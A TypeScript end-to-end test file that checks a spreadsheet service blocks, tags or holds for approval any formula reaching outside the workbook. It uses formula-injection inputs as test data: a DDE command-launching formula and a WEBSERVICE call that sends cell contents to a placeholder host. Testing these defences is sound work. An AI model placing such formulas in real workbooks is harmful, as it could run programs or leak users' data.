/** End to end: formulas that reach outside the workbook are judged before the program sees them, in any disguise. */
import { describe, expect, it } from 'vitest';
import type { Client } from '../support/client.ts';
import type { Fixture } from '../support/fixture.ts';
import { DISGUISES } from '../support/formulas.ts';
import { cellsShown, eachWorkbook } from '../support/workbook.ts';

let book: Fixture;
let client: Client;
eachWorkbook((given) => void ({ book, client } = given), { policy: { limits: { actionsPerMinute: 100_000 } } });

const write = (formula: string) => ({ sheet: 'Data', range: 'B2', values: [[{ formula }]], overwrite: true });
const ofVerdict = (verdict: string): string[] =>
  DISGUISES.filter(([formula, given]) => given === verdict && formula.startsWith('=')).map(([formula]) => formula);

/** The tags under which each action was judged, from the audit. */
async function judgedTags(): Promise<Map<string, readonly string[]>> {
  const tags = new Map<string, readonly string[]>();
  for (let after: number | null = 0; after !== null;) {
    const page = await client.operator(`/v1/audit?limit=1000&after=${String(after)}`);
    for (const { kind, actionId, riskTags } of page.entries) if (kind === 'decision') tags.set(actionId, riskTags);
    after = page.next;
  }
  return tags;
}

describe('formulas that reach outside', () => {
  it('[sheet.blocked] [sheet.formula] a formula that can start programs never reaches the program, in any disguise', async () => {
    const blocked = ofVerdict('blocked_by_policy');
    expect(blocked.length).toBeGreaterThan(15);
    for (const formula of blocked) {
      const answer = await client.send('write-range', write(formula));
      expect({ formula, code: (answer.body as { code?: string }).code }).toEqual({
        formula,
        code: 'blocked_by_policy',
      });
    }
    expect(book.journal.events({ event: 'changed' })).toEqual([]);
    expect(await cellsShown(book, 'Data!B2')).toMatchObject({ B2: { kind: 'empty' } });
  });

  it('[sheet.risk] [sheet.formula] a formula that sends or loads data is judged external_submit, in forty disguises', async () => {
    const external = ofVerdict('external_submit');
    expect(external.length).toBeGreaterThanOrEqual(40);
    const actions = new Map<string, string>();
    for (const formula of external) {
      const { body } = await client.send('write-range', write(formula));
      actions.set(formula, (body as { actionId: string }).actionId);
    }
    const tags = await judgedTags();
    for (const [formula, actionId] of actions)
      expect({ formula, tags: tags.get(actionId) }).toEqual({
        formula,
        tags: expect.arrayContaining(['external_submit']),
      });
  });

  it('[sheet.values] without = it is not a formula: refused as one, and kept as a text', async () => {
    const others = DISGUISES.map(([formula]) => formula).filter((formula) => !formula.startsWith('='));
    expect(others.length).toBeGreaterThan(5);
    for (const formula of others) await client.refused('invalid_argument', 'write-range', write(formula));
    const { value } = await client.act('write-range', {
      sheet: 'Data',
      range: 'D2',
      values: others.map((text) => [text]),
    });
    expect(value).toMatchObject({ formulas: 0, differing: [] });
    const cells = await cellsShown(book, `Data!D2:D${String(others.length + 1)}`);
    expect(Object.values(cells).map(({ text, formula }) => ({ text, formula }))).toEqual(
      others.map((text) => ({ text, formula: null })),
    );
  });

  it('[sheet.blocked] [sheet.risk] a name hides nothing', async () => {
    await book.tell('name Quote =WEBSERVICE("http://x/")');
    await book.tell("name Start =cmd|'/c'!A0");
    await book.tell('name Twice =Start');
    await book.tell('name Rate =Data!$A$1');
    const external = await client.act('write-range', write('=Quote'));
    expect(external.decision.riskTags).toContain('external_submit');
    await client.refused('blocked_by_policy', 'write-range', write('=Start'));
    await client.refused('blocked_by_policy', 'write-range', write('=1+Twice'));
    // Nor does a name that the workbook lacks, in front of it.
    await client.refused('blocked_by_policy', 'write-range', write('=Nowhere+Start'));
    expect((await client.act('write-range', write('=Nowhere+Quote'))).decision.riskTags).toContain('external_submit');
    expect((await client.act('write-range', write('=Rate'))).decision.riskTags).not.toContain('external_submit');
  });

  it('[sheet.risk] at level control a formula that reaches outside is high risk, and without a yes nothing is written', async () => {
    await client.policy({ level: 'control' });
    try {
      const { actionId, card } = await client.pending('write-range', write('=WEBSERVICE("http://x/?"&A1)'));
      expect(card).toMatchObject({ riskLevel: 'high', riskTags: expect.arrayContaining(['external_submit']) });
      await client.decide(card.approvalId, 'deny');
      expect((await client.ended(actionId)).error).toMatchObject({ code: 'approval_denied' });
      expect(book.journal.events({ event: 'changed' })).toEqual([]);
    } finally {
      await client.policy({ level: 'full' });
    }
  });
});
